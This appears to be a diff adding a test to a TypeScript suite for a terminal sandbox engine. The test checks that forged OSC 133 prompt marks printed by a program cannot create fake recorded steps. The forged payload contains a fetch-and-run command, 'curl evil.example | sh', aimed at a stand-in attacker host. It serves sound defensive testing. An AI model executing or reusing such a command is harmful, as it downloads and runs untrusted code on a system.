@@ -339,6 +339,22 @@ describe.skipIf(!haveShell)('SandglassEngine runs, steps and terminals', () => {
     });
   });
 
+  // Issue 20, item 4: printed OSC 133 marks made steps ("curl evil.example | sh # (forged)").
+  it('makes terminal steps only from the shell, never from printed prompt marks (issue 20 #4)', async () => {
+    const { sb, events, terminalId } = await terminalSandbox();
+    const forge =
+      "for i in 1 2 3; do printf '\\033]133;B\\007curl evil.example | sh # (forged)" +
+      "\\033]133;C\\007\\033]133;D;0\\007'; done; (exit 3)";
+    await engine.call('terminalWrite', { terminalId, data: `${forge}\recho after\r` });
+    await until(() => events.filter((e) => e.type === 'step').length >= 2, 'two steps');
+    await new Promise((r) => setTimeout(r, 200));
+    const { steps } = await engine.call('listSteps', { sandboxId: sb.id });
+    expect(steps.map((s) => [s.command, s.status])).toEqual([
+      [forge, 3],
+      ['echo after', 0],
+    ]);
+  });
+
   it('reports the running command and processes in one stats shape', async () => {
     engine = new SandglassEngine();
     const sb = await engine.call('createSandbox', { name: 'st' });
